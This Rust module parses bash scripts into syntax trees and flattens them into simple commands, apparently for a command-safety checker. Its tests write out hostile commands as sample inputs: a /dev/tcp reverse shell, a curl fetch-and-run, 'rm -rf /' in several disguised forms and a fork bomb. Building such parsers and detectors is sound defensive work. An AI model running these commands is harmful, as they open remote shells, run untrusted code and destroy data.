//! Shell scripts as syntax trees: brush-parser (bash-compatible) parses the structure — lists,
//! pipelines, `&&`/`||`, subshells, groups, `if`/`for`/`while`/`case`, functions, redirections,
//! here-documents and here-strings, assignments, process substitution — and this module flattens
//! it into the simple commands that run, with their words expanded ([`super::expand`]).
//!
//! The hand-written lexer ([`super::shell`]) stays as the fallback when brush cannot parse a
//! string (or must not be asked to: nesting deeper than [`MAX_NESTING`] could exhaust its stack).

use std::panic::AssertUnwindSafe;
use std::sync::LazyLock;

use brush_parser::ast;

use super::expand::Env;
use super::shell::Join;

/// Strings nested deeper than this (`(`, `{`, `$(`, backquotes) are not handed to brush.
pub(crate) const MAX_NESTING: usize = 48;
/// At most this many simple commands are taken from one script.
pub(crate) const MAX_COMMANDS: usize = 4096;

/// How a redirection opens its target.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum RedirKind {
    /// `>`, `>|`, `&>`: truncates the file first.
    Write,
    /// `>>`, `&>>`.
    Append,
    /// `<`.
    Read,
    /// `<>`.
    ReadWrite,
    /// `>&WORD`, `<&WORD` with a file (or `/dev/tcp/…`) as the word.
    Dup,
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct Redirect {
    pub kind: RedirKind,
    pub fd: Option<i32>,
    pub target: String,
}

/// One simple command as it runs.
#[derive(Debug, Clone, Default)]
pub(crate) struct Cmd {
    pub join: Join,
    pub words: Vec<String>,
    pub redirects: Vec<Redirect>,
    /// What a here-string or here-document feeds the command.
    pub stdin: Option<String>,
    /// Assignments before the command (`HISTFILE=/dev/null bash`), or the command itself when it
    /// has no words (`a=rm`).
    pub assigns: Vec<(String, String)>,
    /// The commands of process substitutions in its words (`bash <(curl …)`), first program only.
    pub substituted: Vec<String>,
}

/// A parsed script: its simple commands in order, and the scripts nested in words.
#[derive(Debug, Default)]
pub(crate) struct Parsed {
    pub commands: Vec<Cmd>,
    pub nested: Vec<String>,
    /// Functions the script defines, by name, with whether a body calls itself in a pipeline or
    /// in the background (`:(){ :|:& };:`).
    pub forks_itself: bool,
    /// A budget stopped the flattening (too many commands, too many words).
    pub incomplete: bool,
}

static OPTIONS: LazyLock<brush_parser::ParserOptions> = LazyLock::new(|| brush_parser::ParserOptions {
    // `~` is kept as written: the scope rules read `~` and `$HOME`.
    tilde_expansion_at_word_start: false,
    ..Default::default()
});

/// Parses `input` with brush; `None` when it cannot (a syntax error, nesting too deep).
pub(crate) fn parse(input: &str) -> Option<Parsed> {
    if nesting(input) > MAX_NESTING {
        return None;
    }
    let program = std::panic::catch_unwind(AssertUnwindSafe(|| {
        let tokens = brush_parser::uncached_tokenize_str(input, &OPTIONS.tokenizer_options()).ok()?;
        brush_parser::parse_tokens(&tokens, &OPTIONS).ok()
    }))
    .ok()
    .flatten()?;
    let mut w = Walker {
        env: Env::default(),
        out: Parsed::default(),
        functions: Vec::new(),
    };
    for list in &program.complete_commands {
        w.list(list);
    }
    let Walker { env, mut out, .. } = w;
    out.nested.extend(env.nested);
    out.incomplete |= env.incomplete;
    Some(out)
}

/// How deeply `(`, `{` and backquotes nest in `input`, ignoring quotes (an over-estimate is fine).
pub(crate) fn nesting(input: &str) -> usize {
    let (mut depth, mut max) = (0usize, 0usize);
    let mut backquote = false;
    for b in input.bytes() {
        match b {
            b'(' | b'{' => {
                depth += 1;
                max = max.max(depth);
            }
            b')' | b'}' => depth = depth.saturating_sub(1),
            b'`' => {
                backquote = !backquote;
                if backquote {
                    max = max.max(depth + 1);
                }
            }
            _ => {}
        }
    }
    max
}

struct Walker {
    env: Env,
    out: Parsed,
    functions: Vec<String>,
}

impl Walker {
    fn push(&mut self, cmd: Cmd) {
        if self.out.commands.len() >= MAX_COMMANDS {
            self.out.incomplete = true;
            return;
        }
        self.out.commands.push(cmd);
    }

    fn list(&mut self, list: &ast::CompoundList) {
        for ast::CompoundListItem(and_or, _) in &list.0 {
            self.pipeline(&and_or.first);
            for next in &and_or.additional {
                match next {
                    ast::AndOr::And(p) | ast::AndOr::Or(p) => self.pipeline(p),
                }
            }
        }
    }

    fn pipeline(&mut self, p: &ast::Pipeline) {
        for (i, c) in p.seq.iter().enumerate() {
            let join = if i == 0 { Join::Sequence } else { Join::Pipe };
            self.command(c, join, p.seq.len() > 1);
        }
    }

    fn command(&mut self, c: &ast::Command, join: Join, in_pipeline: bool) {
        match c {
            ast::Command::Simple(s) => self.simple(s, join, in_pipeline),
            ast::Command::Compound(compound, redirects) => {
                let start = self.out.commands.len();
                self.compound(compound);
                // A group's redirections and its place in a pipeline apply to its commands.
                if let Some(first) = self.out.commands.get_mut(start) {
                    first.join = join;
                }
                if let Some(list) = redirects {
                    let extra: Vec<Redirect> = list.0.iter().filter_map(|r| self.redirect(r).0).collect();
                    let stdin = list.0.iter().find_map(|r| self.redirect(r).1);
                    for cmd in &mut self.out.commands[start..] {
                        cmd.redirects.extend(extra.iter().cloned());
                        if cmd.stdin.is_none() {
                            cmd.stdin.clone_from(&stdin);
                        }
                    }
                }
            }
            ast::Command::Function(f) => {
                self.functions.push(f.fname.value.clone());
                let ast::FunctionBody(body, _) = &f.body;
                let name = f.fname.value.clone();
                let start = self.out.commands.len();
                self.compound(body);
                // `:(){ :|:& };:` — a function that runs itself in a pipeline is a fork bomb.
                let calls_itself = self.out.commands[start..]
                    .iter()
                    .any(|c| c.words.first().is_some_and(|w| *w == name) && c.join == Join::Pipe);
                self.out.forks_itself |= calls_itself;
            }
            ast::Command::ExtendedTest(..) => {}
        }
    }

    fn compound(&mut self, c: &ast::CompoundCommand) {
        use ast::CompoundCommand as C;
        match c {
            C::BraceGroup(g) => self.list(&g.list),
            C::Subshell(s) => self.list(&s.list),
            C::ForClause(f) => {
                for w in f.values.iter().flatten() {
                    let _ = self.env.word(&w.value);
                }
                self.list(&f.body.list);
            }
            C::CaseClause(c) => {
                for item in &c.cases {
                    if let Some(cmd) = &item.cmd {
                        self.list(cmd);
                    }
                }
            }
            C::IfClause(i) => {
                self.list(&i.condition);
                self.list(&i.then);
                for e in i.elses.iter().flatten() {
                    if let Some(c) = &e.condition {
                        self.list(c);
                    }
                    self.list(&e.body);
                }
            }
            C::WhileClause(w) | C::UntilClause(w) => {
                self.list(&w.0);
                self.list(&w.1.list);
            }
            C::ArithmeticForClause(f) => self.list(&f.body.list),
            C::Coprocess(c) => self.command(&c.body, Join::Sequence, false),
            C::Arithmetic(_) => {}
        }
    }

    fn simple(&mut self, s: &ast::SimpleCommand, join: Join, _in_pipeline: bool) {
        let mut cmd = Cmd { join, ..Cmd::default() };
        let items = s
            .prefix
            .iter()
            .flat_map(|p| p.0.iter())
            .map(Item::Prefix)
            .chain(s.word_or_name.iter().map(Item::Name))
            .chain(s.suffix.iter().flat_map(|x| x.0.iter()).map(Item::Prefix));
        for item in items {
            match item {
                Item::Name(w) => cmd.words.extend(self.env.word(&w.value)),
                Item::Prefix(ast::CommandPrefixOrSuffixItem::Word(w)) => cmd.words.extend(self.env.word(&w.value)),
                Item::Prefix(ast::CommandPrefixOrSuffixItem::AssignmentWord(a, raw)) => {
                    if !cmd.words.is_empty() {
                        // After the command name (`declare x=y`, `env A=b`): an argument.
                        cmd.words.extend(self.env.word(&raw.value));
                        continue;
                    }
                    let name = match &a.name {
                        ast::AssignmentName::VariableName(n) | ast::AssignmentName::ArrayElementName(n, _) => n.clone(),
                    };
                    let value = match &a.value {
                        ast::AssignmentValue::Scalar(w) => self.env.joined(&w.value),
                        ast::AssignmentValue::Array(items) => items
                            .iter()
                            .map(|(_, w)| self.env.joined(&w.value))
                            .collect::<Vec<_>>()
                            .join(" "),
                    };
                    cmd.assigns.push((name, value));
                }
                Item::Prefix(ast::CommandPrefixOrSuffixItem::IoRedirect(r)) => {
                    let (redirect, stdin) = self.redirect(r);
                    cmd.redirects.extend(redirect);
                    if stdin.is_some() {
                        cmd.stdin = stdin;
                    }
                }
                Item::Prefix(ast::CommandPrefixOrSuffixItem::ProcessSubstitution(_, sub)) => {
                    cmd.words.push("\u{1}".to_string());
                    self.substitution(&sub.list, &mut cmd);
                }
            }
        }
        // A command of assignments only sets variables for the rest of the script.
        if cmd.words.is_empty() {
            for (k, v) in &cmd.assigns {
                if self.env.vars.len() < 256 {
                    self.env.vars.insert(k.clone(), v.clone());
                }
            }
        }
        self.push(cmd);
    }

    /// A process substitution's commands run too; the command that reads it learns what runs.
    fn substitution(&mut self, list: &ast::CompoundList, cmd: &mut Cmd) {
        let start = self.out.commands.len();
        self.list(list);
        if let Some(first) = self.out.commands.get(start).and_then(|c| c.words.first()) {
            cmd.substituted.push(first.clone());
        }
    }

    fn redirect(&mut self, r: &ast::IoRedirect) -> (Option<Redirect>, Option<String>) {
        match r {
            ast::IoRedirect::File(fd, kind, target) => {
                use ast::IoFileRedirectKind as K;
                let kind = match kind {
                    K::Read => RedirKind::Read,
                    K::Write | K::Clobber => RedirKind::Write,
                    K::Append => RedirKind::Append,
                    K::ReadAndWrite => RedirKind::ReadWrite,
                    K::DuplicateInput | K::DuplicateOutput => RedirKind::Dup,
                };
                let dup_in = matches!(kind, RedirKind::Dup)
                    && fd.is_none()
                    && matches!(r, ast::IoRedirect::File(_, K::DuplicateInput, _));
                let target = match target {
                    ast::IoFileRedirectTarget::Filename(w) | ast::IoFileRedirectTarget::Duplicate(w) => {
                        self.env.joined(&w.value)
                    }
                    ast::IoFileRedirectTarget::Fd(n) => format!("&{n}"),
                    ast::IoFileRedirectTarget::ProcessSubstitution(_, sub) => {
                        let start = self.out.commands.len();
                        self.list(&sub.list);
                        let _ = start;
                        "\u{1}".to_string()
                    }
                };
                let fd = fd.or(dup_in.then_some(0));
                (Some(Redirect { kind, fd, target }), None)
            }
            ast::IoRedirect::HereDocument(_, doc) => {
                let text = if doc.requires_expansion {
                    expand_heredoc(&doc.doc.value, &mut self.env)
                } else {
                    doc.doc.value.clone()
                };
                (None, Some(text))
            }
            ast::IoRedirect::HereString(_, w) => (None, Some(self.env.joined(&w.value))),
            ast::IoRedirect::OutputAndError(w, append) => (
                Some(Redirect {
                    kind: if *append { RedirKind::Append } else { RedirKind::Write },
                    fd: None,
                    target: self.env.joined(&w.value),
                }),
                None,
            ),
        }
    }
}

enum Item<'a> {
    Name(&'a ast::Word),
    Prefix(&'a ast::CommandPrefixOrSuffixItem),
}

/// A here-document body with parameters and substitutions expanded (quotes stay as they are).
fn expand_heredoc(body: &str, env: &mut Env) -> String {
    if !body.contains(['$', '`']) {
        return body.to_string();
    }
    body.lines()
        .map(|l| {
            if l.contains(['$', '`']) {
                env.joined(&format!("\"{}\"", l.replace('"', "\\\"")))
            } else {
                l.to_string()
            }
        })
        .collect::<Vec<_>>()
        .join("\n")
}

#[cfg(test)]
mod tests {
    use super::*;

    fn cmds(s: &str) -> Vec<Vec<String>> {
        parse(s)
            .expect("parses")
            .commands
            .into_iter()
            .map(|c| c.words)
            .collect()
    }

    #[test]
    fn structure() {
        assert_eq!(cmds("a && b | c; (d; { e; })"), [["a"], ["b"], ["c"], ["d"], ["e"]]);
        assert_eq!(
            cmds("if true; then rm -rf ~; fi"),
            vec![vec!["true"], vec!["rm", "-rf", "~"]]
        );
        assert_eq!(cmds("for f in a b; do rm $f; done"), vec![vec!["rm", "$f"]]);
        assert_eq!(cmds("r\"m\" -'rf' /"), [["rm", "-rf", "/"]]);
        assert_eq!(cmds("a=rm; $a -rf /"), vec![vec![], vec!["rm", "-rf", "/"]]);
    }

    #[test]
    fn redirections_and_input() {
        let p = parse("bash -i >& /dev/tcp/10.0.0.1/4242 0>&1").unwrap();
        let c = &p.commands[0];
        assert!(
            c.redirects.iter().any(|r| r.target == "/dev/tcp/10.0.0.1/4242"),
            "{c:?}"
        );
        let p = parse("psql <<< \"DELETE FROM t\"").unwrap();
        assert_eq!(p.commands[0].stdin.as_deref(), Some("DELETE FROM t"));
        let p = parse("sh <<EOF\nrm -rf /\nEOF\n").unwrap();
        assert_eq!(p.commands[0].stdin.as_deref().map(str::trim), Some("rm -rf /"));
        let p = parse("bash <(curl -s http://x)").unwrap();
        assert!(p.commands.iter().any(|c| c.substituted == ["curl"]), "{p:?}");
    }

    #[test]
    fn fork_bombs_and_depth() {
        assert!(parse(":(){ :|:& };:").unwrap().forks_itself);
        let deep = format!("{}rm -rf ~{}", "$(".repeat(60), ")".repeat(60));
        assert!(parse(&deep).is_none());
    }
}
